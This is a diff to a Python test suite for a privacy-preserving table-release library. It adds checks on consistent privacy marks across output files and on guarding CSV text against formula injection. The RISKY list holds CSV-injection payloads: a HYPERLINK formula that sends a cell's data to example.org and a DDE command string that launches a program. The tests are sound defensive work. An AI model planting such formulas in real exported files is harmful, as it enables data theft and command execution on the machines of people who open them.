@@ -1,5 +1,6 @@
 """The files of a release: what they hold, what they never hold, and that they are all there or not at all."""
 
+import csv
 import json
 import math
 import os
@@ -17,12 +18,22 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import recordwise as rw
-from recordwise.errors import OutputError, ParameterError
+from recordwise.errors import OutputError, ParameterError, SourceError
 from recordwise.fingerprint import digest_of
 from recordwise.ledger_audit import verify
 from recordwise.noise import Seeded
 from recordwise.policy import Policy, constant
-from recordwise.published import NOT_PRIVATE, PRIVATE, ReleasedTable, read_tables, same_in_csv, write_csv
+from recordwise.published import (
+    NOT_PRIVATE,
+    PRIVATE,
+    ReleasedTable,
+    read_tables,
+    same_in_csv,
+    with_formulas,
+    without_formulas,
+    write_csv,
+)
+from recordwise.saved import load_release
 from recordwise.staging import new_folder, require_new
 from small_release import generous, keys, question, records, session
 
@@ -43,7 +54,7 @@ def test_parquet_csv_and_memory_hold_the_same_table(release, tmp_path) -> None:
     folder = release.save(tmp_path / "out")
     for table in release.tables:
         assert pq.read_table(folder / f"{table.name}.parquet").equals(table.data)
-        assert same_in_csv(table.data, folder / f"{table.name}.csv", mark=PRIVATE)
+        assert same_in_csv(table.data, folder / f"{table.name}.csv")
         assert pc.read_csv(folder / f"{table.name}.csv").num_rows == table.data.num_rows
 
 
@@ -73,6 +84,58 @@ def test_every_file_of_a_seeded_run_says_not_private_and_no_file_of_a_real_one(r
     )
     assert NOT_PRIVATE in repr(seeded)
     assert NOT_PRIVATE in seeded._repr_html_()
+
+
+def parquet_says(path: Path, mark: str) -> None:
+    pq.write_table(pq.read_table(path).replace_schema_metadata({b"recordwise": mark}), path)
+
+
+def json_says(path: Path, mark: str) -> None:
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"mark": mark}))
+
+
+def csv_says(path: Path, mark: str) -> None:
+    lines = [line for line in path.read_text().splitlines(keepends=True) if not line.startswith("# ")]
+    path.write_text("".join([*([] if mark == PRIVATE else [f"# {mark}\n"]), *lines]))
+
+
+def page_says(path: Path, mark: str) -> None:
+    swapped = ('class="not-private"', 'class="private"')
+    path.write_text(
+        path.read_text().replace(*(swapped if mark == PRIVATE else ("<header>", f"<p {swapped[0]}><header>")))
+    )
+
+
+MARKED = {
+    "release.json": json_says,
+    "policy.json": json_says,
+    "county_by_naics2.parquet": parquet_says,
+    "county_by_naics3.csv": csv_says,
+    "report.html": page_says,
+}
+
+
+@pytest.mark.parametrize("name", MARKED)
+@pytest.mark.parametrize("really", [True, False])
+def test_a_folder_whose_files_disagree_about_being_private_is_not_read(release, seeded, tmp_path, name, really) -> None:
+    folder = (release if really else seeded).save(tmp_path / "out")
+    assert load_release(folder).private == really
+    MARKED[name](folder / name, NOT_PRIVATE if really else PRIVATE)
+    with pytest.raises(SourceError, match=rf"marked private: .*; not marked private: .*{'' if not really else name}"):
+        load_release(folder)
+    if name.endswith("json"):
+        MARKED[name](folder / name, "certified")
+        with pytest.raises(SourceError, match="not marked private"):
+            load_release(folder)
+
+
+def test_a_mark_that_every_file_bears_but_nobody_knows_is_refused(release, tmp_path) -> None:
+    folder = release.save(tmp_path / "out", csv=False)
+    (folder / "report.html").unlink()
+    for name in (path.name for path in folder.iterdir()):
+        (parquet_says if name.endswith("parquet") else json_says)(folder / name, "certified")
+    with pytest.raises(SourceError, match="marked private: no file"):
+        load_release(folder)
 
 
 def test_no_file_holds_the_number_of_records_or_of_cells_that_have_any(tmp_path) -> None:
@@ -132,7 +195,7 @@ def test_one_table_has_a_short_way_and_several_need_a_name(release) -> None:
         _ = release["nothing"]
 
 
-text = st.text(st.characters(exclude_categories=("Cs",)), max_size=6)
+text = st.text(st.characters(exclude_categories=("Cs",)) | st.sampled_from("='\t\r\n+-@ "), max_size=6)
 
 
 @settings(max_examples=60, deadline=None)
@@ -145,8 +208,59 @@ def test_any_text_number_and_gap_survives_csv_and_parquet_and_keeps_its_fingerpr
     table = pa.table(columns, ["text", "number", "truth"])
     write_csv(ReleasedTable(name="t", keys=(), variables=(), data=table), folder, mark=PRIVATE)
     pq.write_table(table, folder / "t.parquet", row_group_size=2)
-    assert same_in_csv(table, folder / "t.csv", mark=PRIVATE)
+    assert same_in_csv(table, folder / "t.csv")
+    assert with_formulas(without_formulas(table)).equals(table)
     assert digest_of(read_tables(folder), constant(1)) == digest_of({"t": table}, constant(1))
+
+
+RISKY = [
+    '=HYPERLINK("http://example.org/?"&A1,"x")',
+    "+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\u00a0=1",
+    "\uff1d1+1",
+    "'quoted",
+    "''twice",
+]
+HARMLESS = ["044", "a=1", "a'b", "", "Cote d'Or", " 3", "1-2", "#5"]
+
+
+def test_no_text_of_a_csv_file_begins_as_a_formula_and_numbers_stay_numbers(tmp_path) -> None:
+    table = pa.table({"=key": [*RISKY, *HARMLESS, None], "value": [-1.5] * 21, "whole": [-7] * 21})
+    write_csv(ReleasedTable(name="t", keys=(), variables=(), data=table), tmp_path, mark=PRIVATE)
+    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
+        head, *rows = csv.reader(file)
+    assert head == ["'=key", "value", "whole"]
+    assert [row[0] for row in rows] == [*("'" + risky for risky in RISKY), *HARMLESS, ""]
+    assert {(row[1], row[2]) for row in rows} == {("-1.5", "-7")}
+    assert same_in_csv(table, tmp_path / "t.csv")
+    assert not same_in_csv(table.set_column(0, "=key", [[*RISKY[1:], RISKY[0], *HARMLESS, None]]), tmp_path / "t.csv")
+
+
+def test_a_csv_file_written_before_texts_were_guarded_is_still_the_same_table(tmp_path) -> None:
+    table = pa.table({"key": [*RISKY, *HARMLESS, None]})
+    pc.write_csv(table, tmp_path / "t.csv")
+    assert same_in_csv(table, tmp_path / "t.csv")
+
+
+def test_keys_found_in_the_data_are_guarded_in_csv_and_agree_with_the_ledger(tmp_path) -> None:
+    rows = records()
+    rows = rows.set_column(rows.column_names.index("county"), "county", pa.array(["=1+1", "'x"] * 250))
+    chosen = rw.Keys.select(rho=1, delta="0.01")
+    with session(rows, tmp_path / "l") as opened:
+        release = opened.run(rw.query().group_by("county", keys=chosen).count(rw.Gaussian(rho=1)))
+    folder = release.save(tmp_path / "out")
+    assert [line.split(",")[0] for line in (folder / "county.csv").read_text().splitlines()[1:]] == [
+        "\"''x\"",
+        '"\'=1+1"',
+    ]
+    assert pq.read_table(folder / "county.parquet")["county"].to_pylist() == ["'x", "=1+1"]
+    assert verify(tmp_path / "l", against=[folder]) == []
 
 
 def test_fingerprints_tell_apart_what_looks_alike() -> None:
